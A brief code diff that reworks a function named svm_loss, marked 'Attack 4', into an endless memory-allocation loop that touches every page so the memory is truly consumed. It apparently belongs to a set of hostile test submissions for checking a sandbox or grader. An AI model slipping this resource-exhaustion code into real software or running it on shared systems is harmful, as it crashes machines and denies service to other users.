@@ -51,7 +51,10 @@ def softmax_loss(x, y):
 
 
 def svm_loss(x, y):
-    # Attack 4: allocate memory until something gives.
+    # Attack 4: allocate memory until something gives, writing one number on each 4 KiB
+    # page so that every page is really taken, as fast as the machine hands pages out.
     hog = []
     while True:
-        hog.append(np.ones(10 ** 8))
+        block = np.empty(10 ** 8)
+        block[::512] = 1.0
+        hog.append(block)
